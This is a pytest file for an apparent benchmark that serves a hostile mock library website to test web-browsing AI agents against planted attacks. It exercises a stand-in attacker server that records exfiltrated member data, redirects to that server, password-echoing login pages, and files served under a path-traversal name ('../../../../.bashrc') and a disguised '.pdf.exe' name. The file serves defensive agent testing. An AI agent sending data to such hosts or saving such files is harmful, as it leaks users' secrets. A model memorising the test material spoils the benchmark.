"""The library under attack over HTTP: what is on its pages, what it remembers, what is noted."""

from __future__ import annotations

import re
from collections.abc import AsyncIterator

import httpx
import pytest

from agent_e.benchmarks.sites import RunningSite, serve_site
from agent_e.benchmarks.sites.hostile.attacks import ATTACKS, PASSWORD
from agent_e.benchmarks.sites.hostile.data import MEMBER_NUMBER

CASES = {f"T{number}" for number in range(1, 18)} - {"T10"}
PLACES = ("/", "/account", "/search?q=ladder", "/tools/tile-cutter", "/list")


@pytest.fixture
async def library() -> AsyncIterator[RunningSite]:
    async with serve_site("hostile") as site:
        yield site


@pytest.fixture
async def client(library: RunningSite) -> AsyncIterator[httpx.AsyncClient]:
    async with httpx.AsyncClient(base_url=library.url) as client:
        yield client


def place_of(name: str) -> str:
    return f"/e/{[attack.name for attack in ATTACKS].index(name) + 1}"


def test_every_case_has_attacks_and_each_is_told_apart() -> None:
    assert {attack.case for attack in ATTACKS} == CASES
    assert len({attack.name for attack in ATTACKS}) == len(ATTACKS)
    for attack in ATTACKS:
        assert attack.harms and attack.tried, attack.name
        for pattern in attack.tried:
            re.compile(pattern)


async def test_every_page_is_there_with_every_attack(client: httpx.AsyncClient) -> None:
    plain = [(await client.get(f"/e/0{place}")).text for place in PLACES]
    for number, attack in enumerate(ATTACKS, 1):
        for place, without in zip(PLACES, plain, strict=True):
            answer = await client.get(f"/e/{number}{place}")
            assert answer.status_code == 200, (attack.name, place)
            assert answer.text.replace(f"/e/{number}/", "/e/0/") != without, (attack.name, place)
            assert "ATTACKER" not in answer.text and "attacker.invalid" not in answer.text


async def test_a_page_without_attack_says_nothing_of_one(
    client: httpx.AsyncClient, library: RunningSite
) -> None:
    text = (await client.get("/e/0/tools/tile-cutter")).text
    assert library.beside["attacker"].url not in text
    assert "ssistants" not in text and "$9.00 a day" in text and MEMBER_NUMBER in text


async def test_what_is_done_is_remembered_and_forgotten(
    client: httpx.AsyncClient, library: RunningSite
) -> None:
    before = library.state()
    await client.post("/e/0/do/list", data={"tool": "belt-sander"})
    await client.post("/e/0/do/send", data={"to": "40-9919-002", "amount": "250"})
    await client.post("/e/0/do/email", data={"email": "x@y.example"})
    await client.post("/e/0/do/upload", files={"file": ("k.txt", b"-----BEGIN")})
    await client.get("/e/0/do/delete?what=account")
    state = library.state()
    assert state["saved"] == ["belt-sander"]
    assert state["transfers"] == [{"to": "40-9919-002", "amount": "250"}]
    assert state["email"] == "x@y.example"
    assert state["uploads"] == [{"name": "k.txt", "begin": "-----BEGIN"}]
    assert state["acts"] == ["delete"]
    library.reset()
    assert library.state() == before


async def test_the_attacker_is_another_address_and_notes_all_that_reaches_it(
    client: httpx.AsyncClient, library: RunningSite
) -> None:
    attacker = library.beside["attacker"]
    assert attacker.url == f"http://127.0.0.2:{attacker.port}"
    document = {"Sec-Fetch-Dest": "document"}
    await client.get(f"{attacker.url}/collect?member=40%2D77+31", headers=document)
    await client.post(f"{attacker.url}/collect", content=b"note=plum%26dusk")
    first, second = attacker.state()["requests"]
    assert (first["method"], first["path"], first["document"]) == ("GET", "/collect", True)
    assert "member=40-77 31" in first["sent"]
    assert (second["method"], second["document"]) == ("POST", False)
    assert "note=plum&dusk" in second["sent"]
    library.reset()
    assert attacker.state() == {"requests": []}


async def test_the_password_comes_back_as_careless_sites_give_it_back(
    client: httpx.AsyncClient, library: RunningSite
) -> None:
    sent = {"password": PASSWORD}
    assert PASSWORD in (await client.post("/e/0/do/login", data=sent)).text
    assert PASSWORD in (await client.post("/e/0/do/login-error", data=sent)).text
    assert PASSWORD in (await client.post("/e/0/do/login-url", data=sent)).headers["location"]
    assert library.state()["logins"] == [PASSWORD] * 3


async def test_redirects_lead_to_the_attacker_in_two_hops(
    client: httpx.AsyncClient, library: RunningSite
) -> None:
    first = await client.get(f"{place_of('t08-moved')}/trap/moved")
    second = await client.get(first.headers["location"])
    assert second.headers["location"] == f"{library.beside['attacker'].url}/landed"


@pytest.mark.parametrize(
    ("name", "disposition"),
    [("climbing", "../../../../.bashrc"), ("disguised", "price-list.pdf.exe")],
)
async def test_files_are_sent_under_false_names(
    client: httpx.AsyncClient, name: str, disposition: str
) -> None:
    answer = await client.get(f"/e/0/files/{name}")
    assert disposition in answer.headers["content-disposition"]
